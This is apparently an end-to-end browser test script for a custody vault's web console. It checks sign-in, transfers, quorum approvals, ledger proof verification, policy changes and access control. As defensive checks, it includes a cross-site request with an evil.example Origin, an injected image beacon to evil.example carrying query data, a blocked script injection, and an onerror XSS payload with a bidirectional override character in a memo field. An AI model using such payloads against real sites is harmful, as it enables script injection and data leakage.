// console.mjs ORIGIN FOLDER SECRETS: people at the console of a real vault. Each line `ok ..` was seen; a line `do ..` asks
// whoever started this to act outside the browser, and goes on when a line comes back.
import assert from "node:assert/strict";
import { readFileSync } from "node:fs";
import { join } from "node:path";
import { createInterface } from "node:readline";
import { axe, everyLook, open, shots, sticksOut } from "./look.mjs";

const [origin, folder, secrets] = process.argv.slice(2);
const saw = (text) => console.log(`ok console: ${text}`);
const lines = createInterface({ input: process.stdin })[Symbol.asyncIterator]();
const outside = async (asked) => {
  console.log(`do ${asked}`);
  const { done } = await lines.next();
  assert.ok(!done, asked);
};
const token = (name) => readFileSync(join(secrets, `${name}.token`), "utf8").trim();

// A browser of somebody; every request that leaves for another origin is remembered, and so is how much was fetched of files.
async function person(name) {
  const browser = await open();
  const page = await browser.page();
  page.away = [];
  page.files = new Map();
  page.on("request", (request) => {
    if (!request.url().startsWith(origin)) page.away.push(request.url());
  });
  page.on("response", async (response) => {
    // Each file once, however many pages were opened.
    if (new URL(response.url()).pathname.startsWith("/assets/")) page.files.set(response.url(), (await response.body().catch(() => "")).length);
  });
  await page.goto(origin);
  await page.fill("#f-token", token(name));
  await page.click("main button");
  await page.getByRole("heading", { name: "What waits" }).waitFor();
  return { browser, page };
}

async function looksWell(browser, path, name) {
  const page = await browser.page();
  await page.goto(origin + path);
  await everyLook(page, async (theme, { width }) => {
    assert.deepEqual(await axe(page), [], `${name} ${theme} ${width}`);
    assert.deepEqual(await sticksOut(page), [], `${name} ${theme} ${width}`);
  });
  await shots(page, `console-${name}`, folder);
  assert.deepEqual(page.troubles, [], name);
  await page.close();
}

const caseOf = (page) => page.url().split("/").at(-1);

async function stranger() {
  const browser = await open();
  const page = await browser.page();
  await page.goto(origin);
  await page.fill("#f-token", "not-a-token");
  await page.click("main button");
  await page.getByText("no person holds this token").first().waitFor();
  await browser.close();
  const bare = await open();
  await looksWell(bare, "/", "sign-in");
  await bare.close();
  const asks = async (path, init) => (await fetch(origin + path, { redirect: "manual", ...init })).status;
  for (const path of ["/cases", "/ledger", "/transfer", "/settings", "/events"]) assert.equal(await asks(path), 401, path);
  const body = new URLSearchParams({ token: token("olga") });
  assert.equal(await asks("/sign-in", { method: "POST", body }), 403, "no Origin");
  assert.equal(await asks("/sign-in", { method: "POST", headers: { origin: "http://evil.example" }, body }), 403);
  assert.equal(await asks("/file", { method: "POST", headers: { origin }, body: new URLSearchParams({ ask: "x" }) }), 401);
  saw("row_47 without a token, an Origin or a session, nothing is shown and nothing is filed");
}

// Something that found its way into a page loads nothing and runs nothing, and the browser tells the desk of it.
async function intruder() {
  const browser = await open();
  const page = await browser.page();
  await page.goto(`${origin}/?of=qrt_in-a-query`);
  const refused = await page.evaluate(() => {
    const image = document.createElement("img");
    image.src = "https://evil.example/seen.png?of=qrt_in-a-query";
    document.body.append(image);
    try {
      const script = document.createElement("script");
      script.textContent = "document.title = 'taken'";
      document.body.append(script);
      return "";
    } catch (error) {
      return String(error);
    }
  });
  assert.match(refused, /TrustedScript/);
  for (const directive of ["require-trusted-types-for", "img-src"]) await outside(`reported ${directive}`);
  assert.notEqual(await page.title(), "taken");
  assert.ok(page.troubles.length >= 2, "the browser keeps the page from both");
  await browser.close();
  saw("what does not belong to a page neither loads nor runs, and the desk's log tells by its browser's report, without what stood in a query");
}

async function operator() {
  const { browser, page } = await person("olga");
  await page.goto(`${origin}/transfer`);
  await page.fill("#f-to", "0x00000000000000000000000000000000000000bb");
  await page.fill("#f-amount", "0.3");
  await page.fill("#f-fee_ceiling", "0.01");
  await page.fill("#f-memo", "\u202e001 <img src=x onerror=document.title=1>");
  await page.selectOption("#f-asset", { index: 0 });
  await page.click('button:has-text("Look at it")');
  await page.getByText("Nothing is filed yet").waitFor();
  const isText = async () => {
    assert.equal(await page.locator('img[src="x"]').count(), 0);
    assert.doesNotMatch(await page.content(), /[\u202a-\u202e\u2066-\u2069]/);
    assert.notEqual(await page.title(), "1");
  };
  assert.match(await page.locator("main").innerText(), /001 <img src=x onerror=document\.title=1>/);
  await isText();
  assert.match(await page.locator("main").innerText(), /0\.3/);
  assert.match(await page.locator("main").innerText(), /what a simulation shows[\s\S]*the wallet 0x[0-9a-fA-F]{40}: -0\.3 /i);
  await shots(page, "console-look", folder);
  await page.click("text=File this transfer");
  await page.getByText("awaits approvals").first().waitFor();
  const filed = caseOf(page);
  saw("an operator looks at a transfer and files it, and it waits for approvals");
  await isText();
  saw("row_56 a memo is shown as text: no markup of it is markup, and none of its letters turns the writing");
  await looksWell(browser, `/cases/${filed}`, "case-waits");
  await looksWell(browser, `/cases/${filed}/simulation`, "case-simulation");
  saw("what the desk's node thinks that a transfer would change stands beside it, before and after it is filed");
  await outside(`agree ${filed}`);
  await outside(`settle ${filed}`);
  await page.getByText("settled", { exact: true }).first().waitFor();
  assert.match(await page.locator(".timeline").innerText(), /Approved by ann[\s\S]*Signed by east and west[\s\S]*Closed/);
  saw("two people agree at their own tools, and the open page tells live that it settled");
  await looksWell(browser, `/cases/${filed}`, "case-settled");
  await page.click("text=/^entry /");
  await page.waitForSelector('[data-recompute-result]:not([data-recompute-result=""])');
  saw("each entry of a case is one click away, and the browser hashes its bytes itself");
  const receipt = await page.evaluate(async (path) => (await fetch(path)).json(), `/cases/${filed}/receipt`).catch(() => null);
  const got = receipt ?? await (await browser.context.request.get(`${origin}/cases/${filed}/receipt`)).json();
  assert.ok(got, "a receipt");
  saw("the receipt is taken from the page of the case");

  await page.goto(`${origin}/transfer`);
  const account = (await (await browser.context.request.get(`${origin}/wallets`)).text()).match(/eip155:\d+/)?.[0];
  assert.ok(account, "an account of the wallet");

  // The nodes are asked soon after a case ended, and what they say is drawn.
  await page.goto(`${origin}/wallets`);
  for (const begun = Date.now(); !(await page.content()).includes(" of 30 known"); await page.reload()) {
    assert.ok(Date.now() - begun < 120_000, "what the nodes said is drawn within two minutes");
    await new Promise((done) => setTimeout(done, 500));
  }
  const told = await page.locator("main").innerText();
  assert.match(told, /All wallets, by tier[\s\S]*Sums of all wallets/i);
  assert.match(told, /Tier\s+(hot|warm|cold)/i);
  assert.ok(await page.locator('figure.gauge svg[role="img"][aria-label*=", by tier: hot "]').count() > 0, "sums by tier");
  const held = page.locator('figure.bars:has(svg[aria-label*="held when the node last spoke in each day"])').first();
  const labels = await page.locator("main svg").evaluateAll((all) => all.map((one) => `${one.getAttribute("aria-label")}: ${one.querySelectorAll("rect").length}`));
  assert.ok(await held.locator("rect").count() > 0, `a balance is drawn: ${labels.join("\n")}`);
  assert.match(await held.locator("svg").getAttribute("aria-label"), /[1-9]\d* of 30 known\. The most was \d/);
  await held.locator("summary").click();
  assert.match(await held.locator("dl").innerText(), /not known[\s\S]*\d [A-Z]+/);
  const wallet = await page.locator('main a[href^="/wallets/"]').first().getAttribute("href");
  saw("all wallets are summed by tier, each says its own, and what it held is drawn day by day with gaps where nobody knows");

  await page.goto(`${origin}/people`);
  await page.getByText("one key only: enrol a second").first().waitFor();
  await page.fill("#f-person", "vera");
  await page.selectOption("#f-change", "leaver");
  await page.selectOption("#f-post", "viewer");
  await page.click("text=Open a checklist");
  await page.getByText("the book will show it").first().waitFor();
  await page.selectOption("#f-item", "hosts");
  await page.fill("#f-reference", "hr-2041");
  await page.click("text=I did this, and attest it");
  await page.getByText("hr-2041").waitFor();
  const list = new URL(page.url()).pathname;
  const options = await page.locator("#f-item option").allInnerTexts();
  assert.ok(options.length > 0 && !options.some((words) => /No seat|No credential|Access to hosts/.test(words)), String(options));
  saw("a checklist is opened, what was done is attested by whoever did it, and what the book shows is nobody's to say");

  await outside("stand-in ann");
  await page.goto(`${origin}/people`);
  await page.click("text=Let somebody stand in");
  await page.fill("#f-enrolment", "{}");
  await page.fill("#f-days", "7");
  await page.click("text=Look at who would stand in");
  await page.getByText("this is no enrolment").first().waitFor();
  await page.goto(`${origin}/people`);
  await page.click("text=Let somebody stand in");
  await page.fill("#f-enrolment", readFileSync(join(secrets, "../approvers/sam/enrolment.json"), "utf8"));
  await page.fill("#f-days", "7");
  await page.fill("#f-above", "ETH=1.5");
  await shots(page, "console-stand-in-asked", folder);
  await page.click("text=Look at who would stand in");
  await page.getByText("Nothing is filed yet").first().waitFor();
  assert.match(await page.locator("main").innerText(), /person-sam[\s\S]*person-ann[\s\S]*1\.5 ETH/);
  await shots(page, "console-stand-in", folder);
  await page.click("text=Ask the charter's quorum");
  await page.getByText("awaits approvals").first().waitFor();
  await outside(`resume ${caseOf(page)}`);
  await page.goto(`${origin}/people`);
  await page.getByText("stands", { exact: true }).first().waitFor();
  saw("somebody is let stand in with the enrolment of their own machine, once the quorum agreed, and the page says until when");

  for (const [path, name] of [[list, "checklist"], [wallet, "wallet"], ["/people", "people"], ["/", "home"], ["/cases", "cases"], ["/transfer", "transfer"], ["/wallets", "wallets"],
    ["/addresses", "addresses"], ["/policy", "policy"], ["/agents", "agents"], ["/agents/olga", "credential"], ["/ledger", "ledger"],
    ["/ledger/3", "entry"], ["/standing", "findings"], ["/alerts", "alerts"], ["/settings", "settings"], ["/freeze", "freeze"]]) {
    await looksWell(browser, path, name);
  }
  saw("every page passes axe, in dark and light, narrow and wide, and none scrolls sideways");
  assert.deepEqual(page.away, []);
  const bytes = [...page.files.values()].reduce((sum, size) => sum + size, 0);
  assert.ok(bytes > 0 && bytes < 150_000, `${bytes} bytes of files`);
  saw("row_55 no page asks another origin for anything, and the files together are small");

  await page.goto(`${origin}/freeze`);
  await page.click("text=Freeze the whole vault");
  await page.goto(`${origin}/freeze`);
  await page.getByText("Signing is stopped").first().waitFor();
  await looksWell(browser, "/freeze", "frozen");
  await page.click("text=Ask the quorum to resume the whole vault");
  await page.getByText("awaits approvals").first().waitFor();
  await outside(`resume ${caseOf(page)}`);
  await page.goto(`${origin}/freeze`);
  await page.getByText("Nothing is frozen").waitFor();
  saw("one person stops at once, and only the quorum's word resumes");
  return { browser, page };
}

// What the browser proves of the ledger by itself, and that it is not fooled.
async function proofs() {
  const { browser, page } = await person("olga");
  const result = (at = page) => at.waitForFunction(() => {
    const said = document.querySelector("[data-proof]")?.dataset.proofResult;
    return said ? { said, words: document.querySelector("[data-proof-results]").innerText } : null;
  }).then((handle) => handle.jsonValue());
  await page.goto(`${origin}/ledger/3`);
  let told = await result();
  assert.equal(told.said, "unpinned");
  assert.match(told.words, /Entry 3 stands in the ledger/);
  await looksWell(browser, "/ledger/3", "proof-unpinned");
  await page.fill("#f-log-key", "not a key");
  await page.click("text=Pin the key that I pasted");
  assert.equal(await page.evaluate(() => localStorage.length), 0, "what is no key is not pinned");
  // The person's own copy, from the founding: not what the page says.
  const pinned = JSON.parse(readFileSync(join(secrets, "../desk/verify.json"), "utf8")).log;
  await page.fill("#f-log-key", pinned);
  await page.click("text=Pin the key that I pasted");
  await page.locator('[data-proof-result="proven"]').waitFor();
  told = await result();
  assert.match(told.words, /signed by the log key that you pinned/);
  assert.match(told.words, /for the first time/);
  await shots(page, "console-proof-proven", folder);
  for (const path of ["/ledger/0", "/ledger/1", "/ledger/7", "/ledger"]) {
    await page.goto(origin + path);
    told = await result();
    assert.equal(told.said, "proven", `${path} ${told.words}`);
  }
  saw("the browser proves entries up to a checkpoint that the pinned key signed");

  // The book grows while this browser is away, and the next look proves that it only grew.
  // A page of the ledger would look at once, so another one waits.
  await page.goto(`${origin}/agents`);
  const before = await page.evaluate(() => JSON.parse(localStorage.getItem(localStorage.key(0))));
  await outside("open spare");
  await page.goto(`${origin}/ledger`);
  told = await result();
  assert.equal(told.said, "proven", told.words);
  assert.match(told.words, new RegExp(`goes on from the ${before.size} `), told.words);
  saw("the ledger of today is proven to go on from the one that this browser knew");

  const tampered = async (name, path, words, change, glob = `${origin}${path}`) => {
    await page.route(glob, async (route) => {
      const response = await route.fetch();
      await route.fulfill({ response, body: change(await response.text()) });
    });
    await page.goto(origin + path);
    const told = await result();
    assert.equal(told.said, "refuted", `${name}: ${told.words}`);
    assert.match(told.words, words, name);
    if (name === "an entry") await shots(page, "console-proof-refuted", folder);
    await page.unroute(glob);
  };
  const flip = (text) => text.replace(/[0-9a-f]$/, (last) => (last === "0" ? "1" : "0"));
  await tampered("an entry", "/ledger/3", /does not hold this entry/, (html) =>
    html.replace(/(data-recompute="[^"]*"[^>]*>[^<]*?&quot;at&quot;:\d*)(\d)/, (_, head, digit) => head + (digit === "0" ? "1" : "0")));
  await tampered("a hash", "/ledger/3", /does not hold this entry/, (html) =>
    html.replace(/data-hashes="([0-9a-f ]*)"/, (_, hashes) => `data-hashes="${flip(hashes)}"`));
  await tampered("an index", "/ledger/3", /does not hold this entry|too/, (html) => html.replace('data-index="3"', 'data-index="2"'));
  await tampered("a proof cut short", "/ledger/3", /too short|does not hold/, (html) =>
    html.replace(/data-hashes="[0-9a-f]{64} ?/, 'data-hashes="'));
  // A root of the forger's own, with the right proof to it, is not signed by the log.
  await tampered("a size", "/ledger", /not signed by the pinned key/, (html) =>
    html.replace(/(data-proof-note[^>]*>[^\n]*\n)(\d+)/, (_, head, size) => `${head}${Number(size) + 1}`));
  await tampered("another log's key", "/ledger", /another log key/, (html) => html.replace(/data-log="[^"]*"/, `data-log="${pinned.replace(/.$/, "A")}x"`));
  await page.evaluate(({ size, root }) => {
    const name = localStorage.key(0);
    localStorage.setItem(name, JSON.stringify({ ...JSON.parse(localStorage.getItem(name)), size: size - 1, root: root.replace(/^./, (c) => (c === "0" ? "1" : "0")) }));
  }, await page.evaluate(() => JSON.parse(localStorage.getItem(localStorage.key(0)))));
  await page.goto(`${origin}/ledger`);
  told = await result();
  assert.equal(told.said, "refuted", told.words);
  assert.match(told.words, /rewritten/);
  saw("row_13 row_43 a changed entry, hash, place, proof, checkpoint, key or past is refuted, each with why");
  await browser.close();
}

// A key generation, live: who is waited for, what each said, what remains.
async function runbook() {
  const { browser, page } = await person("olga");
  await outside("open savings");
  await page.goto(`${origin}/cases`);
  await page.locator("tr", { hasText: "open wallet savings" }).first().locator('a[href^="/cases/"]').click();
  await page.waitForURL(/cases\/[0-9a-f]{64}/);
  const opened = caseOf(page);
  await page.click("text=The runbook, live");
  const step = (words) => page.locator("tr", { hasText: words });
  await step("People agree").getByText("now", { exact: true }).waitFor();
  assert.match(await step("The cosigners make the key").innerText(), /later[\s\S]*east and west/);
  await looksWell(browser, `/cases/${opened}/runbook`, "runbook-waits");
  await outside("stop west");
  // Nobody can be asked to agree before every witness is back: the open page says by itself who is missing.
  await step("Every cosigner is up").getByText("west of west custody ltd is away").waitFor({ timeout: 60_000 });
  assert.match(await step("Every cosigner is up").innerText(), /now[\s\S]*west of west custody ltd is away/);
  await shots(page, "console-runbook-missing", folder);
  saw("the runbook says who is waited for while one cosigner is away");
  await outside("start west");
  await outside(`agree ${opened}`);
  await step("People agree").getByText("done", { exact: true }).waitFor();
  await outside(`settle ${opened}`);
  await step("Every cosigner signed the same transcript").getByText("done", { exact: true }).waitFor();
  await step("The wallet is in service").getByText("done", { exact: true }).waitFor();
  assert.match(await step("Each share has a backup").innerText(), /now[\s\S]*waits for east and west/);
  await looksWell(browser, `/cases/${opened}/runbook`, "runbook-made");
  saw("it fills live to a key that every cosigner signed for, and says which backups remain");
  await outside("back-up east");
  await outside("back-up west");
  await step("Each share has a backup").getByText("done", { exact: true }).waitFor();
  await page.getByText("a signing drill has proven").waitFor();
  await browser.close();
  saw("drills prove the backups, and the open page says so");
}

// A changed policy is read in words, asked at its edges and held against the past before anybody agrees to it.
async function policy({ browser, page }) {
  await page.goto(`${origin}/policy`);
  const said = await page.locator("main").innerText();
  assert.match(said, /Allows any agent to transfer\./);
  assert.match(said, /Asks for quorum `treasury` before any person may transfer\./);
  assert.match(said, /Met when 2 of /);
  const changed = JSON.parse(readFileSync(join(secrets, "../public/policy.json"), "utf8"));
  changed.rules = changed.rules.filter((rule) => rule.id !== "people-need-treasury");
  for (const rule of changed.rules.filter(({ id }) => /^(large|stranger)-/.test(id))) {
    rule.text = rule.text.replace(/context\.amount > (\d+)/, "context.amount > $10");
  }
  changed.budgets[0].amount = "1000000000000000000";
  changed.rules.push({
    id: "pattern", text: 'forbid (principal is Agent, action, resource) when { context.recipient.account like "*dead" };',
  });
  await page.fill("#f-policy", JSON.stringify(changed));
  await page.click('button:has-text("Look at what it changes")');
  await page.getByRole("heading", { name: "What it newly allows" }).waitFor();
  const looked = await page.locator("main").innerText();
  assert.match(looked, /removes rule `people-need-treasury`/);
  assert.match(looked, /not told in words/);
  assert.match(looked, /any person: transfer/);
  assert.match(looked, /The last 90 days under it/);
  assert.match(looked, /Of these\s+1 looser, 0 stricter/);
  assert.match(looked, /looser[^\n]*0\.3 ETH[^\n]*needs treasury \(2 of \d\)[^\n]*allowed/);
  await everyLook(page, async (theme, { width }) => {
    assert.deepEqual(await axe(page), [], `policy-look ${theme} ${width}`);
    assert.deepEqual(await sticksOut(page), [], `policy-look ${theme} ${width}`);
  });
  await shots(page, "console-policy-look", folder);
  saw("a changed policy is told in words, with what it newly allows and what the last 90 days would have been");
  await page.click('button:has-text("Propose this policy")');
  await page.getByText("awaits approvals").first().waitFor();
  const filed = caseOf(page);
  await page.click("text=What it changes, what it newly allows, and the last 90 days under it");
  await page.getByRole("heading", { name: "What it newly allows" }).waitFor();
  await looksWell(browser, `/policy/cases/${filed}`, "policy-case");
  await outside(`agree ${filed}`);
  await outside(`settle ${filed}`);
  await page.goto(`${origin}/policy`);
  const now = await page.locator("main").innerText();
  assert.match(now, /not told in words/);
  assert.doesNotMatch(now, /before any person may transfer\./);
  await looksWell(browser, "/policy", "policy-changed");
  saw("its case leads to the same page, and once two people agreed the policy in force says it");
}

// Whoever only looks is offered nothing and refused everything.
async function viewer() {
  const { browser, page } = await person("vera");
  await page.goto(`${origin}/agents`);
  const agent = await page.locator('a[href^="/agents/trader"]').first().getAttribute("href");
  for (const path of ["/transfer", "/freeze", agent, "/addresses", "/policy", "/people"]) {
    await page.goto(origin + path).catch(() => null);
    const buttons = await page.locator("main button").allInnerTexts();
    assert.deepEqual(buttons, [], path);
  }
  const post = (path, form) => browser.context.request.post(origin + path, { form, headers: { origin }, maxRedirects: 0 });
  assert.equal((await post("/file", { ask: "x" })).status(), 403);
  const typed = { wallet: "treasury", asset: "x", to: "x", amount: "1", fee_ceiling: "1", memo: "" };
  assert.equal((await post("/transfer", typed)).status(), 403);
  await browser.close();
  saw("a viewer is offered nothing that files, and every POST is refused");
}

async function revoked({ browser, page }) {
  await page.goto(`${origin}/cases`);
  await outside("revoke olga");
  await page.goto(`${origin}/ledger`);
  await page.getByRole("heading", { name: "Sign in" }).waitFor();
  assert.equal((await browser.context.request.get(`${origin}/cases`)).status(), 401);
  await browser.close();
  saw("t27 whoever is revoked is signed out at the next click");
}

await stranger();
await intruder();
const olga = await operator();
await proofs();
await runbook();
await policy(olga);
await viewer();
await revoked(olga);
process.exit(0);
